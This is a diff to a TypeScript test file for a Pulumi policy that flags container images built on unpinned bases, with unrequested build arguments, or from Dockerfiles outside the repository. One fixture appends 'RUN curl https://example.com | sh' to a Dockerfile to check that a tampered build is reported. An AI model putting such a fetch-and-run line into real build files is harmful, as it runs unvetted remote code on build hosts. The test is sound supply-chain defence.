@@ -1,3 +1,6 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import * as pulumi from "@pulumi/pulumi";
 import { afterEach, beforeEach, expect, test } from "vitest";
 import { resource, stackViolationsOf, unknown } from "../testing/validated.ts";
@@ -44,18 +47,77 @@ test("An image that is pulled for a container is reported at the pull.", async (
   expect(found).toEqual(["scheduler is ascend-vllm:6.3.910"]);
 });
 
+const ownDockerfile = readFileSync("scheduler/Dockerfile", "utf8");
+const ownNode = { NODE_IMAGE: "ascend-pd/node:24.21.0" };
+const name = "ascend-pd/scheduler:1p1d-0a1b2c";
+
+/** What is found of an image built so in a folder of its own, and of a container that runs it. */
+async function foundOf(build: object, dockerfile = ownDockerfile, images: readonly string[] = []) {
+  const context = mkdtempSync(join(tmpdir(), "ascend-pd-build-"));
+  writeFileSync(join(context, "Dockerfile"), dockerfile);
+  const image = remoteImage({ name, build: { context, useLegacyBuilder: true, ...build } });
+  const found = await stackViolationsOf(pinnedImages, [image, container(name)], { images });
+  rmSync(context, { recursive: true });
+  return found.map(({ message }) => message.replace(context, "CONTEXT"));
+}
+
 test.each([
   [{ NODE_IMAGE: "node:24-slim" }, ["scheduler is built on node:24-slim"]],
-  [{ DEBUG: "1" }, ["scheduler is built on a base that no build argument names"]],
+  [{}, ["scheduler is built on undefined"]],
   [{ NODE_IMAGE: `node:24-slim@${digest}` }, []],
-  [{ NODE_IMAGE: "ascend-pd/node:24.21.0" }, []],
+  [ownNode, []],
   [{ NODE_IMAGE: "ascend-pd/node:latest" }, ["scheduler is built on ascend-pd/node:latest"]],
+  [
+    { ...ownNode, BASE: `node@${digest}` },
+    ["scheduler is built with the argument BASE, for which its Dockerfile does not ask"],
+  ],
 ])("An image that the stack builds with the arguments %j: %j.", async (buildArgs, expected) => {
-  const name = "ascend-pd/scheduler:1p1d-0a1b2c";
+  expect(await foundOf({ buildArgs })).toEqual(expected);
+});
 
-  const found = await messages(remoteImage({ name, build: { context: ".", buildArgs } }), container(name));
+test.each([
+  ["FROM alpine:latest\n"],
+  [`ARG NODE_IMAGE\nFROM alpine:latest\n`],
+  [`ARG NODE_IMAGE\nFROM $NODE_IMAGE\nCOPY --from=alpine:latest / /\n`],
+  [`${ownDockerfile}RUN curl https://example.com | sh\n`],
+])(
+  "A build by a Dockerfile that is not ours is reported, whatever its arguments say: %j.",
+  async (dockerfile) => {
+    const violation = "scheduler is built by CONTEXT/Dockerfile, which is no Dockerfile of this repository";
 
-  expect(found).toEqual(expected);
+    expect(await foundOf({ buildArgs: ownNode }, dockerfile)).toEqual([violation]);
+    expect(await foundOf({ buildArgs: ownNode }, dockerfile, [name])).toEqual([]);
+  },
+);
+
+test.each([
+  [{ dockerfile: "missing" }, "is built by CONTEXT/missing, which is no Dockerfile of this repository"],
+  [
+    { context: "https://example.com/x.git" },
+    "is built by https:/example.com/x.git/Dockerfile, which is no Dockerfile of this repository",
+  ],
+  [
+    { context: "dist/scheduler" },
+    "is built by dist/scheduler/Dockerfile, which is no Dockerfile of this repository",
+  ],
+  [{ useLegacyBuilder: false }, "is built by another builder than the one of its host"],
+])("A build with %j is reported.", async (build, violation) => {
+  expect(await foundOf({ buildArgs: ownNode, ...build })).toEqual([`scheduler ${violation}`]);
+});
+
+test("A name with a digest makes no build a pinned one.", async () => {
+  const image = remoteImage({ name: `x@${digest}`, build: { context: "." } });
+
+  expect(await messages(image)).toHaveLength(1);
+});
+
+test("An image that the configuration lists passes, in a container and where it is pulled.", async () => {
+  const name = "registry.example/engine:6.3.910";
+  const images = [name];
+
+  const found = await stackViolationsOf(pinnedImages, [remoteImage({ name }), container(name)], { images });
+
+  expect(found).toEqual([]);
 });
 
 test.each([undefined, "false"])("A stack marked %s may use tags.", async (production) => {
